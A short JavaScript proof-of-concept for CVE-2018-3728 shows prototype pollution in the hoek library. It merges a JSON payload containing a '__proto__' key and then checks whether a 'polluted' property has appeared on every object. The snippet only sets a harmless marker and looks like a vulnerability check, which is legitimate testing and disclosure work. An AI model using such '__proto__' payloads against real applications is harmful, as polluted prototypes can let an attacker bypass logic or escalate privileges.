// CVE-2018-3728: Hoek.merge copies "__proto__" onto Object.prototype.
const Hoek = require('hoek');
Hoek.merge({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
